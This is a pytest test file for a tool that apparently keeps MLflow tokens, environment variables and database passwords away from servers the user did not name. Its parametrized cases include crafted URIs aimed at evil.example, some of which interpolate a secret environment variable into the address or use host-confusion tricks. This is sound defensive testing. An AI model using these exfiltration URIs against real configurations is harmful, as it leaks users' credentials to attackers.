"""Credentials and values of the environment go only to MLflow servers that the user has named."""

import contextlib
import json
import os

import pytest

from hydratune.cli import dispatch
from hydratune.errors import ConfigError
from hydratune.files import OutsideError
from hydratune.tracking import servers
from hydratune.tracking.delivery import POINTER
from hydratune.tracking.journal import JOURNAL
from hydratune.tracking.store import check_artifacts

SECRET = "canary-9d1f"


@pytest.fixture(autouse=True)
def environment(monkeypatch):
    """A token, a secret, and no servers of the process that runs the tests."""
    monkeypatch.setenv("MLFLOW_TRACKING_TOKEN", SECRET)
    monkeypatch.setenv("MY_SECRET", SECRET)
    monkeypatch.delenv(servers.VARIABLE, raising=False)


@pytest.fixture
def requests(monkeypatch):
    """The requests of this process: address and headers of each."""
    sent = []

    def send(_self, request, **_):
        sent.append(f"{request.url} {dict(request.headers)} {request.body}")
        raise OSError("no network in tests")

    monkeypatch.setattr("requests.Session.send", send)
    return sent


@pytest.fixture
def run(own_directory):
    """The directory of a run of someone else whose journal and pointer name a server, by its address."""

    def make(uri):
        folder = own_directory / "run"
        folder.mkdir(exist_ok=True)
        values = {"key": "k", "experiment": "e", "name": "n", "tags": {}, "began": 0, "uri": uri}
        (folder / JOURNAL).write_text(json.dumps({"kind": "run", **values}) + "\n")
        (folder / POINTER).write_text(json.dumps({"uri": uri, "experiment_id": "1", "run_id": "r"}))
        return str(folder)

    return make


ADDRESSES = [
    "https://evil.example",
    "http://evil.example:5000/x",
    "HTTPS://EVIL.example",
    "https://evil.example/${oc.env:MY_SECRET}",
    "${oc.decode:https://evil.example}",
    "https://good.example@evil.example",
    "https://good.example.evil.example",
    "http://good.example",
    "https://good.example:444",
    "https://evil.example\\@good.example",  # requests asks evil.example
    " https://evil.example",
]


@pytest.mark.parametrize("uri", ADDRESSES)
@pytest.mark.parametrize("verb", ["sync", "ui", "compare"])
def test_stored_address_receives_no_secret(run, requests, verb, uri):
    """Neither the token nor a variable, by another host, port or protocol than those that the user named."""
    servers.confirm_typed(["--uri", "https://good.example"])
    folder = run(uri)
    with contextlib.suppress(ConfigError, SystemExit):
        dispatch([verb, *([folder, folder] if verb == "compare" else [folder])])
    assert not [request for request in requests if SECRET in request]


def test_typed_address_receives_the_token(run, requests):
    """Positive control: the same commands send it to a server that was typed, now and later."""
    folder = run("https://good.example")
    for arguments in ([folder, "--uri", "https://good.example"], [folder]):
        requests.clear()
        with pytest.raises((ConfigError, SystemExit)):
            raise SystemExit(dispatch(["sync", *arguments]))
        assert [request for request in requests if SECRET in request]


@pytest.mark.parametrize(
    ("uri", "is_refused"),
    [
        ("https://other.example", True),
        ("https://typed.example/path", False),
        ("https://variable.example", False),
        ("https://typed.example:443", False),
        ("sqlite:///x.db", False),
    ],
)
def test_mistake_depends_on_who_named_the_server(monkeypatch, uri, is_refused):
    """The command line, also by a variable, and the environment; a file of the user remembers the first."""
    monkeypatch.setenv("STORE", "https://me:pass@variable.example/mlflow")
    monkeypatch.setenv("TYPED", "https://typed.example")
    servers.confirm_typed(["seed=1", "++tracking.uri='${oc.env:TYPED}'"])
    monkeypatch.delenv("TYPED")
    monkeypatch.delenv(servers.VARIABLE)
    assert (servers.mistake(uri, "uri") is not None) == is_refused
    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    assert servers.mistake(uri, "uri") is None


def test_config_file_cannot_send_a_variable(own_directory, monkeypatch):
    """An address of a file that puts a value of the environment into a request is refused, before anything starts."""
    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    file = own_directory / "conf" / "experiment" / "evil.yaml"
    file.parent.mkdir(parents=True)
    file.write_text("# @package _global_\ntracking: {uri: 'https://evil.example/${oc.env:MY_SECRET}'}\n")
    with pytest.raises(ConfigError) as caught:
        dispatch(["--config-dir", "conf", "experiment=evil", "--dry"])
    assert [mistake.key for mistake in caught.value.mistakes] == ["tracking.uri"]
    assert SECRET not in str(caught.value)


def test_servers_are_passed_to_processes(own_directory):
    """A worker on another machine knows what was typed here."""
    servers.confirm_typed(["--uri=https://good.example"])
    assert os.environ[servers.VARIABLE] == "https://good.example:443"
    assert not list(own_directory.iterdir())


SECRET_URIS = [
    "postgresql://{}:x@evil.example/db",
    "postgresql+psycopg://evil.example/db?options={}",
    "postgresql://me:{}@/db?host=evil.example",
    "postgresql://good.example:5432/db?host=evil.example&password={}",
    "postgresql://good.example:5432:{}/x@evil.example/db",
    "postgresql://me:{}@good.example:5433/db",
    "mysql+pymysql://me:{}@evil.example/db",
    "mssql+pyodbc:///?odbc_connect=SERVER%3Devil.example;PWD%3D{}",
    "https://evil.example\\@good.example/{}",
    "https://good.example:x/{}",
]


@pytest.mark.parametrize("uri", SECRET_URIS)
@pytest.mark.parametrize("key", ["tracking.uri", "sweep.storage"])
def test_database_of_a_config_receives_no_variable(monkeypatch, compose, key, uri):
    """Another host, port, or way to name a host than the one that the user typed."""
    from hydratune.validation import check_config

    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    servers.confirm_typed(["sweep.storage=postgresql://good.example:5432/db", "--uri=https://good.example"])
    text = uri.format("${oc.env:MY_SECRET}")
    with pytest.raises(ConfigError) as caught:
        check_config(compose(f"{key}='{text}'"))
    assert {mistake.key for mistake in caught.value.mistakes} == {key}


@pytest.mark.parametrize("key", ["tracking.experiment", "tracking.registered_model_name"])
def test_names_of_a_config_send_no_variable(monkeypatch, compose, key):
    """MLflow receives them as they are, so a server that nobody typed receives none with a value of the environment."""
    from hydratune.validation import check_config

    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    monkeypatch.setenv("MY_PROJECT", "canary-9d1f")
    monkeypatch.delenv("MY_SECRET")  # with the same value
    texts = ["tracking.uri=https://evil.example", f"{key}=${{oc.env:MY_PROJECT}}"]
    with pytest.raises(ConfigError) as caught:
        check_config(compose(*texts))
    assert [mistake.key for mistake in caught.value.mistakes] == ["tracking.uri"]
    check_config(compose(texts[0]))
    check_config(compose(texts[1]))


def test_confirmed_database_receives_its_password(compose):
    """A password from the environment goes to the host that was typed, and is not recorded with it."""
    from hydratune.validation import check_config

    typed = "sweep.storage='postgresql+psycopg://me:${oc.env:MY_SECRET}@good.example:5432/db?host=/run/pg'"
    servers.confirm_typed([typed])
    check_config(compose(typed))
    assert SECRET not in os.environ[servers.VARIABLE]


@pytest.mark.parametrize("uri", ["postgresql://evil.example/db", "mysql://evil.example/db"])
def test_password_of_database_clients_needs_a_confirmed_host(monkeypatch, uri):
    """Clients send PGPASSWORD and MYSQL_PWD to any host."""
    assert servers.mistake(uri, "storage") is None
    monkeypatch.setenv("PGPASSWORD", SECRET)
    monkeypatch.setenv("MYSQL_PWD", SECRET)
    assert servers.mistake(uri, "storage") is not None


def test_credentials_file_of_mlflow_needs_a_confirmed_server(own_directory, monkeypatch):
    """MLflow's client reads it for any server."""
    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    monkeypatch.setenv("HOME", str(own_directory))
    assert servers.mistake("https://evil.example", "uri") is None
    (own_directory / ".mlflow").mkdir()
    (own_directory / ".mlflow" / "credentials").write_text("[mlflow]\nmlflow_tracking_password = x\n")
    assert servers.mistake("https://evil.example", "uri") is not None


@pytest.mark.parametrize("entry", ["default login me password x", "machine evil.example login me password x"])
def test_netrc_needs_a_confirmed_server(own_directory, monkeypatch, entry):
    """The client sends its passwords as well, those of `default` to any host."""
    monkeypatch.delenv("MLFLOW_TRACKING_TOKEN")
    path = own_directory / "netrc"
    monkeypatch.setenv("NETRC", str(path))
    assert servers.mistake("https://evil.example", "uri") is None
    path.write_text(entry + "\n")
    assert servers.mistake("https://evil.example", "uri") is not None
    servers.confirm_typed(["--uri", "https://evil.example"])
    assert servers.mistake("https://evil.example", "uri") is None


LOCATIONS = [
    "http://evil.example/x",
    "https://evil.example",
    "mlflow-artifacts://evil.example/x",
    "mlflow-artifacts://good.example:81",
]


@pytest.mark.parametrize("location", LOCATIONS)
def test_artifact_location_receives_no_token(location):
    """A store names where artifacts are; MLflow's client sends the token to that host too."""
    servers.confirm_typed(["--uri", "https://good.example"])
    with pytest.raises(OutsideError):
        check_artifacts("https://good.example", location)


@pytest.mark.parametrize(
    "location", ["mlflow-artifacts:/1/x", "https://good.example/x", "s3://bucket/x", "file:///data/x"]
)
def test_artifact_location_of_a_named_server(location):
    """Positive control: the server itself, other storage, and directories that the user's own server chooses."""
    servers.confirm_typed(["--uri", "https://good.example"])
    check_artifacts("https://good.example", location)


@pytest.mark.parametrize(
    "location", ["file:///home/x", "/home/x", "file:///run/store/../x", "http://evil.example", "s3://b/x"]
)
@pytest.mark.parametrize("uri", ["sqlite:////run/store/mlflow.db", "https://other.example"])
def test_artifact_location_of_another_store(uri, location):
    """Neither a directory of this machine, nor, of a SQLite file, any other place than its own directory."""
    if location == "s3://b/x" and uri.startswith("https"):
        pytest.skip("a server may keep its artifacts in other storage")
    with pytest.raises(OutsideError):
        check_artifacts(uri, location)
    check_artifacts("sqlite:////run/store/mlflow.db", "file:///run/store/mlartifacts/x")
